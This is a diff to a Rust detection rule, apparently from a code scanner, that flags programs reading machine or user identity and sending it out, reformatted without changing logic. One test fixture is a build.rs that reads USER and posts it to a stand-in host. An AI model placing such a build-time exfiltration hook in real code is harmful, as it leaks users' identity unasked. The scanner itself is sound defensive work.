@@ -16,8 +16,10 @@ pub(super) const RULE: Rule = Rule {
 };
 
 fn judge(look: &Look<'_>) -> Option<Hit> {
-    let facts = look.has(Sign::HostFact) || (look.has(Sign::HostCommand) && look.any(&[Sign::Env, Sign::FsRead, Sign::Process]));
-    let out = (look.reaches_out() && look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Encode])) || (look.has(Sign::Dns) && look.has(Sign::Encode));
+    let facts = look.has(Sign::HostFact)
+        || (look.has(Sign::HostCommand) && look.any(&[Sign::Env, Sign::FsRead, Sign::Process]));
+    let out = (look.reaches_out() && look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Encode]))
+        || (look.has(Sign::Dns) && look.has(Sign::Encode));
     if !facts || !out {
         return None;
     }
@@ -26,7 +28,12 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
         () if look.is_close() || look.scope.is_whole => Severity::Medium,
         () => Severity::Low,
     };
-    hit(severity, &[Sign::HostFact, Sign::HostCommand], WAY, format!("{} asks which machine and user this is, and can tell it to somebody", look.where_it_runs()))
+    hit(
+        severity,
+        &[Sign::HostFact, Sign::HostCommand],
+        WAY,
+        format!("{} asks which machine and user this is, and can tell it to somebody", look.where_it_runs()),
+    )
 }
 
 #[cfg(test)]
@@ -37,14 +44,23 @@ mod tests {
 
     #[test]
     fn it_fires() {
-        fires(&RULE, "build.rs", r##"fn main() {
+        fires(
+            &RULE,
+            "build.rs",
+            r##"fn main() {
     let who = std::env::var("USER").unwrap_or_default();
     let _ = ureq::post("https://a.example/b").send_string(&who);
-}"##, Severity::High);
+}"##,
+            Severity::High,
+        );
     }
 
     #[test]
     fn look_alikes_are_left_alone() {
-        is_quiet(&RULE, "src/lib.rs", r##"pub fn name() -> String { hostname::get().unwrap().to_string_lossy().into_owned() }"##);
+        is_quiet(
+            &RULE,
+            "src/lib.rs",
+            r##"pub fn name() -> String { hostname::get().unwrap().to_string_lossy().into_owned() }"##,
+        );
     }
 }
